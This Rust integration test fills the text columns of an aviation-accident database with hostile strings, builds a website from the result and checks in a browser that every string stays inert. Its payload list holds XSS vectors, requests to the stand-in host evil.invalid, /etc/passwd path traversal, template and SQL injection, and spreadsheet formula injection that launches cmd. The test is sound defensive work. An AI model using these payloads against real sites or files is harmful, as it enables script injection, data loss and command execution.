//! Hostile text through every text column: the sample's databases with their cells replaced, built
//! as a whole, and every kind of page opened in Chromium (`tests/browser/hostile.test.mjs`).

use std::collections::{BTreeMap, BTreeSet};
use std::fmt::Write;
use std::fs::File;
use std::io::BufWriter;
use std::path::Path;

use jet::{ColumnSpec, Database, Kind, TableDef, Value, Writer};
use serde_json::json;
use sha2::{Digest, Sha256};

use crate::harness::{BASE, Site, sampled, succeed, web_dir};
use crate::serving::{Serving, node, pass};

/// Text that would run, break out, turn around, be computed or break a file if it were not kept
/// text. What runs calls `hostile`, which the test provides, or asks `evil.invalid` for something.
const PAYLOADS: [&str; 62] = [
    "<script>hostile(1)</script>",
    "<script src=//evil.invalid/x.js></script>",
    "</script><script>hostile(2)</script>",
    "</title><script>hostile(3)</script>",
    "</style><script>hostile(4)</script>",
    "</textarea><script>hostile(5)</script>",
    "--><script>hostile(6)</script><!--",
    "]]><script>hostile(7)</script>",
    "<ScRiPt >hostile(8)</sCrIpT >",
    "<scr<script>ipt>hostile(9)</scr</script>ipt>",
    "<img src=x onerror=hostile(10)>",
    "<img src=//evil.invalid/i.png>",
    "<img/src/onerror=hostile(11)>",
    "<svg onload=hostile(12)>",
    "<svg><script>hostile(13)</script></svg>",
    "<svg><animate onbegin=hostile(14) attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=hostile(15)>#x\"/>",
    "<math><mtext><img src=x onerror=hostile(16)>",
    "<body onload=hostile(17)>",
    "<iframe src=javascript:parent.hostile(18)></iframe>",
    "<iframe srcdoc='<script>parent.hostile(19)</script>'>",
    "<object data=//evil.invalid/o></object>",
    "<embed src=//evil.invalid/e>",
    "<link rel=stylesheet href=//evil.invalid/s.css>",
    "<style>@import'//evil.invalid/s.css'</style>",
    "<meta http-equiv=refresh content=0;url=//evil.invalid/>",
    "<base href=//evil.invalid/>",
    "<form action=//evil.invalid/><input name=x autofocus onfocus=hostile(20)>",
    "<details open ontoggle=hostile(21)>",
    "<video><source onerror=hostile(22)></video>",
    "<x-hostile onclick=hostile(23)>x</x-hostile>",
    "\" onmouseover=hostile(24) x=\"",
    "' onmouseover=hostile(25) x='",
    "\" autofocus onfocus=hostile(26) tabindex=1 x=\"",
    "\"><img src=x onerror=hostile(27)>",
    "'><svg onload=hostile(28)>",
    "` onmouseover=hostile(29) `",
    "javascript:hostile(30)",
    "JaVaScRiPt:hostile(31)",
    "data:text/html,<script>hostile(32)</script>",
    "//evil.invalid/",
    "../../../../etc/passwd",
    "\\\";hostile(33);//",
    "';hostile(34);//",
    "\u{2028}hostile(35)//",
    "{{7*7}}${7*7}#{7*7}<%=7*7%>",
    "{% include \"/etc/passwd\" %}",
    "&lt;script&gt;hostile(36)&lt;/script&gt;",
    "&#60;script&#62;hostile(37)",
    "%3Cscript%3Ehostile(38)%3C/script%3E",
    "\u{202e}gnp.exe\u{202d}",
    "\u{2066}\u{202e}reversed\u{2069}",
    "nul\0byte <b>",
    "\u{1b}[31mred\u{7}\u{8}",
    "\u{ffff}\u{fffe}\u{feff}",
    "' OR 1=1; DROP TABLE ntsb.events; --",
    "=HYPERLINK(\"//evil.invalid\",\"x\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
];

/// One text of a megabyte without a blank, in Memo columns only.
fn megabyte() -> String {
    format!("<img src=x onerror=hostile(39)>{}", "A".repeat(1 << 20))
}

/// Of so many cells of a column one is replaced, or more, so that each payload has a row: what is
/// left must still be a site.
const SHARE: u64 = 8;

/// Which payload is next in a column, and how many cells have one.
#[derive(Default)]
struct Planted {
    columns: BTreeMap<(String, String), usize>,
    pairs: BTreeSet<(String, String, usize)>,
    keys: BTreeMap<String, String>,
}

impl Planted {
    /// The next payload of a column, cut to its width.
    fn next(&mut self, table: &str, column: &jet::Column, whole: bool) -> String {
        let at = self
            .columns
            .entry((table.to_owned(), column.name.clone()))
            .or_default();
        let payload = *at % PAYLOADS.len();
        *at += 1;
        let (table, name) = (table.to_owned(), column.name.clone());
        self.pairs.insert((table, name, payload));
        if whole && column.kind == Kind::Memo && *at == 1 {
            return megabyte();
        }
        cut(PAYLOADS[payload], column)
    }

    /// Keys of events are replaced alike in all tables: every fourth, so that most events stay
    /// what the pages count.
    fn key(&mut self, key: &str) -> String {
        if !draw(&[key]).is_multiple_of(4) {
            return key.to_owned();
        }
        let number = self.keys.len();
        let made = || {
            let start: String = PAYLOADS[number % PAYLOADS.len()].chars().take(10).collect();
            format!("{start}{number:04}")
        };
        self.keys.entry(key.to_owned()).or_insert_with(made).clone()
    }
}

fn cut(text: &str, column: &jet::Column) -> String {
    let width = if column.kind == Kind::Memo {
        usize::MAX
    } else {
        usize::from(column.width)
    };
    text.chars().take(width).collect()
}

/// A number that depends on nothing but what it is drawn for.
fn draw(of: &[&str]) -> u64 {
    let digest = Sha256::digest(of.join("\0").as_bytes());
    digest
        .iter()
        .take(8)
        .fold(0, |n, &byte| (n << 8) | u64::from(byte))
}

/// Copies a database and replaces text.
fn poison(from: &Path, to: &Path, planted: &mut Planted) {
    let database = Database::open(std::fs::read(from).unwrap()).unwrap();
    let mut writer =
        Writer::create_as(BufWriter::new(File::create(to).unwrap()), database.format()).unwrap();
    for entry in database.tables() {
        let table = database.table(&entry.name).unwrap();
        let columns: Vec<ColumnSpec> = table.columns.iter().map(spec).collect();
        let mut out = writer.begin_table(&table.name, &columns).unwrap();
        let (mut rows, mut row, mut number) = (database.rows(&table), Vec::new(), 0_u64);
        while rows.next_row(&mut row).unwrap() {
            replace(&table, number, &mut row, planted);
            out.push(&row).unwrap();
            number += 1;
        }
        out.finish().unwrap();
    }
    writer.finish().unwrap();
}

fn spec(column: &jet::Column) -> ColumnSpec {
    match column.kind {
        Kind::Text => ColumnSpec::text(&column.name, column.width),
        kind => ColumnSpec::new(&column.name, kind),
    }
}

fn replace(table: &TableDef, number: u64, row: &mut [Value], planted: &mut Planted) {
    let rows = u64::from(table.row_count);
    // Somewhat more than there are payloads, because rows are drawn.
    let wanted = (rows / SHARE).max(3 * PAYLOADS.len() as u64 / 2);
    for (column, value) in std::iter::zip(&table.columns, row) {
        if column.name.eq_ignore_ascii_case("ev_id") {
            if let Value::Text(key) = value {
                *key = planted.key(key);
            }
            continue;
        }
        let text = matches!(column.kind, Kind::Text | Kind::Memo);
        let drawn = draw(&[&table.name, &column.name, &number.to_string()]);
        let chosen = drawn % rows.max(1) < wanted;
        if text && chosen {
            *value = Value::Text(planted.next(&table.name, column, table.name == "narratives"));
        }
    }
}

/// The poisoned site; how many columns were poisoned, and with how many payloads each.
fn poisoned() -> (Site, Planted) {
    let site = sampled("hostile", 900, 5);
    let mut planted = Planted::default();
    std::fs::create_dir_all(site.folder.join("poisoned")).unwrap();
    for name in ["Pre2008.mdb", "avall.mdb"] {
        let to = site.folder.join("poisoned").join(name);
        poison(&site.folder.join("sample").join(name), &to, &mut planted);
    }
    let mut build = site.windsock("build");
    build.args(["--gate", "none", "--base-url", BASE, "--web-dir"]);
    build.arg(web_dir());
    succeed(build.args(["poisoned/Pre2008.mdb", "poisoned/avall.mdb"]));
    (site, planted)
}

/// A file of accidents to be scored whose every text is hostile.
fn batch(site: &Site) {
    let mut csv = "id,ev_state,ev_month\n".to_owned();
    for payload in PAYLOADS {
        let quoted = payload.replace('"', "\"\"");
        writeln!(csv, "\"{quoted}\",\"{quoted}\",5").unwrap();
    }
    std::fs::write(site.folder.join("hostile.csv"), csv).unwrap();
}

#[test]
fn hostile_text_stays_text_everywhere() {
    let (site, planted) = poisoned();
    let columns = planted.columns.len();
    let full = planted
        .columns
        .values()
        .filter(|cells| **cells >= PAYLOADS.len())
        .count();
    let cells: usize = planted.columns.values().sum();
    println!(
        "{} payloads × {columns} text columns: {} pairs in {cells} cells and {} keys of events; \
         {full} columns have rows enough for every payload",
        PAYLOADS.len(),
        planted.pairs.len(),
        planted.keys.len(),
    );
    assert!(columns > 100, "only {columns} columns");
    assert!(planted.pairs.len() > 50 * full);
    batch(&site);
    let keys: Vec<&String> = planted.keys.values().collect();
    let expected = json!({
        "dist": site.dist(),
        "keys": keys,
        "payloads": &PAYLOADS[..],
        "mdb": site.folder.join("poisoned/avall.mdb"),
        "batch": site.folder.join("hostile.csv"),
    });
    let serving = Serving::start(&site, &["--base-url", BASE]);
    pass(
        node(&["hostile"])
            .env("SITE_URL", &serving.url)
            .env("EXPECTED", expected.to_string()),
    );
}
